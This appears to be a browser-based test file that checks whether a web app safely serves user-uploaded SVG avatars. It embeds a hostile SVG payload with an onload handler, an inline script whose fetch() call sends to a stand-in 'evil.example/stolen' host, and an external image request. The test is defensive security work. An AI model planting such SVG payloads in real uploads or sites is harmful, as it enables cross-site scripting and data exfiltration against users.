import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import type { Actor } from '../../src/access/actor.js';
import { openBrowser } from '../support/browser.js';
import { Doors } from '../support/doors.js';
import { HOSTILE_SVGS } from '../support/hostile-svgs.js';
import { describeIf } from '../support/requires.js';
import { soon } from '../support/soon.js';

/** What would happen if a hostile picture were stored after all. */
const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert('handler')">
  <script>alert('script'); fetch('https://evil.example/stolen', { keepalive: true })</script><image href="https://evil.example/pixel.png" width="9" height="9"/></svg>`;

describeIf('chromium', 'a hostile picture that slipped through, in a real browser', () => {
  let doors: Doors;
  let browser: Browser;
  let ada: Actor;
  let page: Page;
  let addresses: string[];
  let files: Buffer[];
  /** Where the files point to, and a server that serves them like any file. */
  let [elsewhere, careless]: Server[] = [];
  let [said, asked]: [string[], string[]] = [[], []];

  const at = (server: Server | undefined): string => `127.0.0.1:${(server!.address() as AddressInfo).port}`;
  const listening = (server: Server): Promise<Server> =>
    new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));

  beforeAll(async () => {
    [doors, browser] = await Promise.all([Doors.open(), openBrowser()]);
    ada = await doors.town.settle('ada');
    elsewhere = await listening(createServer(({ url }, response) => (asked.push(url!), response.end())));
    files = [HOSTILE, ...HOSTILE_SVGS.map(([, file]) => file)].map((file) => pointed(file, at(elsewhere)));
    careless = await listening(
      createServer(({ url }, response) => {
        response.setHeader('content-type', 'image/svg+xml').end(files[Number(url!.slice(1))]);
      }),
    );
    addresses = await Promise.all(files.map(store));
    const context = await browser.newContext({ extraHTTPHeaders: { authorization: await doors.bearerOf(ada) } });
    page = await context.newPage();
    page.on('dialog', (dialog) => void (said.push(dialog.message()), dialog.dismiss()));
  });
  afterAll(async () => {
    await browser.close();
    for (const server of [elsewhere, careless]) server?.close();
    await doors.close();
  });

  /** Past every check, each as the picture of somebody. */
  const store = async (file: Buffer, index: number): Promise<string> => {
    const { id } = await doors.town.settle(`person${index}`);
    const hash = createHash('sha256').update(file).digest('hex');
    await doors.town.database.query('INSERT INTO avatars VALUES ($1, $2, $3, $4)', [id, hash, 'image/svg+xml', file]);
    return `${doors.url}/user/${id}/avatar/${hash}`;
  };

  const open = async (all: string[]): Promise<void> => {
    [said, asked] = [[], []];
    for (const address of all) await page.goto(address, { waitUntil: 'load' });
    await page.waitForLoadState('networkidle');
  };

  it('runs nothing and asks nobody when it is opened by itself', async () => {
    await open(addresses);

    expect({ said, asked }).toEqual({ said: [], asked: [] });
  });

  it('runs nothing and asks nobody as an image of a page', async () => {
    await page.goto(`${doors.url}/docs/`);
    [said, asked] = [[], []];

    const shown = await page.evaluate(
      (all) =>
        Promise.all(
          all.map(
            (src) =>
              new Promise<boolean>((resolve) => {
                const image = Object.assign(new Image(), {
                  onload: () => resolve(true),
                  onerror: () => resolve(false),
                });
                image.src = src;
                document.body.append(image);
              }),
          ),
        ),
      addresses,
    );
    await page.waitForLoadState('networkidle');

    expect(shown[0]).toBe(true);
    expect({ said, asked }).toEqual({ said: [], asked: [] });
  });

  it('would have run and asked where it is served like any file', async () => {
    await open(files.map((_, index) => `http://${at(careless)}/${index}`));

    const all = ['/stolen', '/pixel.png', '/x.js', '/x.css'];
    await soon(() => all.every((path) => asked.includes(path)));
    expect(said).toEqual(expect.arrayContaining(['handler', 'script', '1']));
    expect(asked).toEqual(expect.arrayContaining(all));
  });
});

/** The same, with a place that exists where it says `evil.example`. */
function pointed(file: string | Buffer, place: string): Buffer {
  return typeof file === 'string'
    ? Buffer.from(file.replaceAll('https://evil.example', `http://${place}`).replaceAll('//evil.example', `//${place}`))
    : file;
}
